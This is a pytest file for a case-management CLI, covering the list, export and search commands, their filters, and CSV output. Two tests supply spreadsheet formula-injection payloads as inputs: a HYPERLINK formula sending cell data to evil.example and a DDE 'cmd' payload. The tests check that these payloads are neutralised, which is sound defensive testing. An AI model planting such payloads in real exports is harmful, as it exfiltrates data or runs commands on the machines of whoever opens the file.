"""``cases list|show|export``: filters, usage errors naming the allowed values, CSV for spreadsheets.

In-process through ``main`` on a real database (SQLite and PostgreSQL); cases are written with
``storage.create_case`` so no model has to be loaded.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

import storage
from pipeline.cli.cases import spreadsheet_cell
from pipeline.cli.params import STATUSES, department_labels
from pipeline.core.model import Channel, ExtractedField
from tests.cli_support import add_case, cli, deployment_env

NOV = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)
DEC = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


@pytest.fixture
def deployed(
    db: storage.Database, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[dict[str, str]]:
    """Four cases: channel, department, review flag and creation date differ."""
    deployment_env(monkeypatch, tmp_path / "home", db_url)
    refs = {
        "toilets": add_case(db, "The toilets are dirty.", department="facilities", created=NOV),
        "bus": add_case(db, "Bus 3 was late.", channel=Channel.email, name="<bus@example.org>",
                        department="transport", confidence=0.3, created=DEC, subject="Bus",
                        sender="a@example.org"),
        "queue": add_case(db, "Window 7 queue.", channel=Channel.web, department="window_services",
                          created=DEC),
        "slip": add_case(db, "Lift broken.", channel=Channel.slip, name="lift.png", department="facilities",
                         confidence=0.2, created=NOV),
    }
    yield refs


def listed(capsys: pytest.CaptureFixture[str], *args: str) -> list[str]:
    run = cli(capsys, "cases", "list", "--json", *args)
    assert run.code == 0, run.err
    return [json.loads(line)["reference"] for line in run.out.splitlines()]


def test_list_filters_combine(deployed: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    assert set(listed(capsys)) == set(deployed.values())
    assert set(listed(capsys, "--department", "facilities")) == {deployed["toilets"], deployed["slip"]}
    assert listed(capsys, "--channel", "email") == [deployed["bus"]]
    assert set(listed(capsys, "--needs-review")) == {deployed["bus"], deployed["slip"]}
    assert set(listed(capsys, "--reviewed")) == {deployed["toilets"], deployed["queue"]}
    assert set(listed(capsys, "--since", "2026-12-01")) == {deployed["bus"], deployed["queue"]}
    assert listed(capsys, "--since", "2026-11-01", "--department", "facilities", "--needs-review") == [
        deployed["slip"]]
    assert listed(capsys, "--status", "closed") == []


@pytest.mark.parametrize(("option", "value", "allowed"), [
    ("--department", "police", department_labels()),
    ("--status", "bogus", STATUSES),
    ("--channel", "fax", tuple(c.value for c in Channel)),
])
def test_unknown_filter_value_is_a_usage_error_naming_the_allowed_values(
    deployed: dict[str, str],
    capsys: pytest.CaptureFixture[str],
    option: str,
    value: str,
    allowed: tuple[str, ...],
) -> None:
    for command in ("list", "export"):
        run = cli(capsys, "cases", command, option, value)
        assert run.code == 2, run
        assert repr(value) in run.err
        assert all(name in run.err for name in allowed), run.err
        assert run.out == ""


def test_statuses_of_the_cli_are_the_database_statuses() -> None:
    # the CLI keeps its own copy so that --help does not import SQLAlchemy
    assert STATUSES == storage.CASE_STATUSES


def test_departments_come_from_the_bundled_label_sets() -> None:
    import classifiers

    bundled = classifiers.load_label_sets(Path(classifiers.__file__).parent / "labels.toml")
    assert department_labels() == next(ls.label_ids for ls in bundled if ls.name == "department")
    assert "police" not in department_labels() and "public_security" in department_labels()


def test_list_table_shows_review_flag_and_whole_references(deployed: dict[str, str],
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    run = cli(capsys, "cases", "list", "--needs-review")
    assert run.code == 0
    for ref in (deployed["bus"], deployed["slip"]):
        assert ref in run.out
    assert "2 case(s)" in run.out


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:10]  # the BOM spreadsheet programs need for UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_export_csv_has_bom_review_subject_sender_and_fields(
    db: storage.Database, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    deployment_env(monkeypatch, tmp_path / "home", db_url)
    text = "洗手间很脏，请联系我 13812345678，或 13900000000。"
    ref = add_case(db, text, channel=Channel.email, name="<x@example.org>", confidence=0.3,
                   subject="投诉：洗手间", sender="王先生 <w@example.org>",
                   fields=(ExtractedField("phone", "13812345678", 9, 20),
                           ExtractedField("phone", "13900000000", 22, 33),
                           ExtractedField("place", "洗手间", 0, 3)))
    out = tmp_path / "cases.csv"
    run = cli(capsys, "cases", "export", "--format", "csv", "-o", str(out))
    assert run.code == 0, run.err
    (row,) = csv_rows(out.read_bytes())
    assert row["reference"] == ref and row["text"] == text
    assert row["needs_review"] == "True" and row["subject"] == "投诉：洗手间"
    assert row["sender"] == "王先生 <w@example.org>"
    assert row["field_phone"] == "13812345678; 13900000000" and row["field_place"] == "洗手间"
    assert row["field_badge"] == ""  # every known field has its column, filled or not
    assert list(row)[: len(storage.EXPORT_COLUMNS)] == list(storage.EXPORT_COLUMNS)


def test_export_to_standard_output_is_utf8_csv_with_bom(deployed: dict[str, str],
                                                        capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    from pipeline.cli import main

    with pytest.raises(SystemExit) as ended:
        main(["cases", "export", "--format", "csv", "--channel", "email"])
    assert not ended.value.code
    (row,) = csv_rows(capsysbinary.readouterr().out)
    assert row["reference"] == deployed["bus"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1",
                                  '=HYPERLINK("http://evil.example/?"&A1,"click")'])
def test_csv_cells_that_would_run_as_formulas_get_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("ok " + text) == "ok " + text
    assert spreadsheet_cell(0.5) == 0.5 and spreadsheet_cell(None) is None and spreadsheet_cell(True) is True


def test_formula_in_text_subject_and_file_name_is_neutralised_in_csv_only(
    db: storage.Database, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    deployment_env(monkeypatch, tmp_path / "home", db_url)
    ref = add_case(db, "=1+1 the lift is broken", channel=Channel.email, name="=cmd|' /C calc'!A0",
                   subject="@SUM(1+1)", sender="-2+3@example.org")
    out = tmp_path / "cases.csv"
    assert cli(capsys, "cases", "export", "--format", "csv", "-o", str(out)).code == 0
    (row,) = csv_rows(out.read_bytes())
    assert row["text"] == "'=1+1 the lift is broken"
    assert row["source"] == "'=cmd|' /C calc'!A0"
    assert row["subject"] == "'@SUM(1+1)" and row["sender"] == "'-2+3@example.org"
    # the stored text, and the JSON forms, are unchanged
    (stored,) = [json.loads(line) for line in cli(capsys, "cases", "export").out.splitlines()]
    assert stored["reference"] == ref and stored["text"] == "=1+1 the lift is broken"
    whole = json.loads(cli(capsys, "cases", "export", "--format", "json").out)
    assert [c["text"] for c in whole] == ["=1+1 the lift is broken"]


def test_export_filters_and_unknown_format(
    deployed: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    run = cli(capsys, "cases", "export", "--department", "facilities", "--needs-review")
    assert [json.loads(line)["reference"] for line in run.out.splitlines()] == [deployed["slip"]]
    bad = cli(capsys, "cases", "export", "--format", "xlsx")
    assert bad.code == 2 and all(f in bad.err for f in ("jsonl", "json", "csv"))


def test_search_with_filters_and_pages(deployed: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    def found(*args: str) -> list[str]:
        run = cli(capsys, "cases", "search", "--json", *args)
        assert run.code == 0, run.err
        return [json.loads(line)["reference"] for line in run.out.splitlines()]

    assert found("broken LIFT") == [deployed["slip"]]
    assert found("a@example.org") == [deployed["bus"]]  # the sender
    assert found("queue") == [deployed["queue"]]
    assert found("queue", "--channel", "email") == []
    first = listed(capsys, "--limit", "2")
    rest = listed(capsys, "--after", first[-1])
    assert first + rest == listed(capsys) and len(rest) == 2
    bad = cli(capsys, "cases", "search", "!!!")
    assert bad.code == 2 and "no words" in bad.err
    missing = cli(capsys, "cases", "list", "--after", "2026-999999")
    assert missing.code != 0 and "no case with reference" in missing.err
